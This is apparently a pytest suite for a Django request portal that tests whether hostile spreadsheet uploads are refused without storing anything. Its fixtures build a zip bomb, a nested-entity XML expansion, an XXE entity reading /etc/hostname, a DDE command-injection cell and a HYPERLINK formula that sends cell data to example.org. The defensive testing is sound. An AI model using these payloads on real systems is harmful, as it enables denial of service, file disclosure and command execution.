"""Tables made to harm: each is answered with a plain sentence, within its limits, and nothing of it is kept or taken in."""

from __future__ import annotations

import io
import re
import time
import zipfile
from collections.abc import Callable
from datetime import date

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from portal.applications.beside.taking import keep, looked_through, take
from portal.applications.models import Application, ApplicationEvent, CaseKey, ImportFile, Mark

pytestmark = pytest.mark.django_db

_HEADINGS = ["申请编号", "申请方式", "申请时间", "受理时间", "申请人类型", "申请人姓名", "所需信息内容描述"]
_ROW = ["粤-1", "网上申请", "2025-03-03", "2025-03-04", "公民", "冯小满", "危房改造名单"]
_NAMESPACE = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def _workbook(*rows: list[object]) -> bytes:
    book = Workbook()
    for row in (_HEADINGS, *rows):
        book.active.append(row)
    content = io.BytesIO()
    book.save(content)
    return content.getvalue()


def _with(sheet: bytes | Callable[[zipfile.ZipFile], None], name: str = "xl/worksheets/sheet1.xml") -> bytes:
    """A workbook whose sheet is another one."""
    made = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(_workbook(_ROW))) as good,
        zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
    ):
        for each in good.namelist():
            if each != name:
                archive.writestr(each, good.read(each))
        if callable(sheet):
            sheet(archive)
        else:
            archive.writestr(name, sheet)
    return made.getvalue()


def _sheet(rows: str, before: str = "") -> bytes:
    return f'<?xml version="1.0"?>{before}<worksheet {_NAMESPACE}><sheetData>{rows}</sheetData></worksheet>'.encode()


def _bomb(archive: zipfile.ZipFile) -> None:
    """Two gigabytes of blanks in a few megabytes."""
    with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
        member.write(_sheet("")[:-30])
        for _each in range(2048):
            member.write(b" " * 2**20)


def _million() -> bytes:
    cell = '<row r="{0}"><c r="A{0}" t="inlineStr"><is><t>x</t></is></c></row>'
    return _with(_sheet("".join(cell.format(number) for number in range(1, 1_000_001))))


def _far() -> bytes:
    return _with(_sheet('<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'))


def _laughs() -> bytes:
    levels = "".join(f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, 10))
    entities = f'<!DOCTYPE worksheet [<!ENTITY a0 "哈">{levels}]>'
    return _with(_sheet('<row r="1"><c r="A1" t="inlineStr"><is><t>&a9;</t></is></c></row>', entities))


def _elsewhere() -> bytes:
    entity = '<!DOCTYPE worksheet [<!ENTITY file SYSTEM "file:///etc/hostname">]>'
    return _with(_sheet('<row r="1"><c r="A1" t="inlineStr"><is><t>&file;</t></is></c></row>', entity))


def _other_zip() -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr("readme.txt", "no table")
    return content.getvalue()


@pytest.mark.parametrize(
    "made",
    [
        pytest.param(lambda: _with(_bomb), id="two gigabytes unpacked"),
        pytest.param(_million, id="a million rows"),
        pytest.param(_far, id="a cell at the far corner"),
        pytest.param(_laughs, id="entities in entities"),
        pytest.param(_elsewhere, id="an entity from a file"),
        pytest.param(lambda: _with(b"<worksheet><sheetData><row>"), id="XML that stops"),
        pytest.param(lambda: _workbook(_ROW)[:-40], id="half a file"),
        pytest.param(lambda: _other_zip(), id="a zip that is no workbook"),
        pytest.param(lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096, id="junk under the name of an old workbook"),
        pytest.param(lambda: b"PK\x03\x04" + bytes(range(256)) * 20, id="junk under the name of a new one"),
    ],
)
def test_it_is_refused_in_a_plain_sentence_and_nothing_is_kept(town, clerk, signed_in, as_of, made):
    as_of(date(2026, 3, 2))
    content = made()
    assert len(content) < 10 * 2**20, "it comes in below the limit of an upload"
    started = time.monotonic()
    page = signed_in(clerk).post(
        reverse("applications:beside", args=[town.slug]), {"file": SimpleUploadedFile("表.xlsx", content)}, follow=True
    )
    assert page.status_code == 422
    (said,) = page.context["form"].errors["file"]
    assert re.search(r"[一-龥]{4}.*。", said)
    assert not re.search(r"Error|Traceback|zip|XML", said), said
    assert time.monotonic() - started < 60
    assert not any(model.objects.exists() for model in (Application, ApplicationEvent, CaseKey, Mark))
    assert not ImportFile.objects.exists()


def test_a_row_wider_than_any_table_is_read_as_far_as_headings_go(town, clerk, as_of):
    as_of(date(2026, 3, 2))
    looked = looked_through(keep(town, _workbook([*_ROW, *["x"] * 16000]), clerk))
    assert looked.may_be_taken


def test_more_rows_than_may_come_at_once_are_refused_whole(town, clerk, signed_in, as_of):
    as_of(date(2026, 3, 2))
    content = _workbook(*([f"粤-{number}", *_ROW[1:]] for number in range(5001)))
    page = signed_in(clerk).post(
        reverse("applications:beside", args=[town.slug]), {"file": SimpleUploadedFile("表.xlsx", content)}, follow=True
    )
    assert "5000" in page.content.decode()
    assert not Application.objects.exists()


def test_what_would_compute_stays_text_on_the_way_in_and_out(town, clerk, signed_in, as_of):
    as_of(date(2026, 3, 2))
    harm = '=HYPERLINK("http://example.org/?x="&A1,"点我")'
    book = Workbook()
    book.active.append(_HEADINGS)
    book.active.append([*_ROW[:5], "+cmd|' /C calc'!A0", "x"])
    book.active.cell(2, 7).value = harm
    book.active.cell(2, 7).data_type = "s"  # as text, which a program that reads the copy may take for a formula
    content = io.BytesIO()
    book.save(content)
    made = take(keep(town, content.getvalue(), clerk), clerk)
    assert (made[0].name, made[0].asked) == ("+cmd|' /C calc'!A0", harm)
    office = signed_in(clerk)
    fields = {"since": "2025-01-01", "until": "2026-03-02"}
    out = office.post(reverse("applications:hand_out", args=[town.slug]), fields | {"shape": "xlsx"})
    cells = [cell for row in load_workbook(io.BytesIO(out.content)).active.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    tabs = office.post(reverse("applications:hand_out", args=[town.slug]), fields | {"shape": "tabs"}).content.decode()
    assert not [cell for line in tabs.splitlines() for cell in line.split("\t") if cell.lstrip('"')[:1] in ("=", "+", "@")]


def test_a_formula_is_read_as_what_it_came_to_and_one_without_a_value_as_nothing(town, clerk, as_of):
    as_of(date(2026, 3, 2))
    looked = looked_through(keep(town, _workbook([*_ROW[:5], '=CONCATENATE("冯","小满")', _ROW[6]]), clerk))
    assert not looked.may_be_taken  # openpyxl keeps no value: the name is missing, and the row says so
    assert [wrong.column for plan in looked.wrong for wrong in plan.wrong] == ["申请人"]
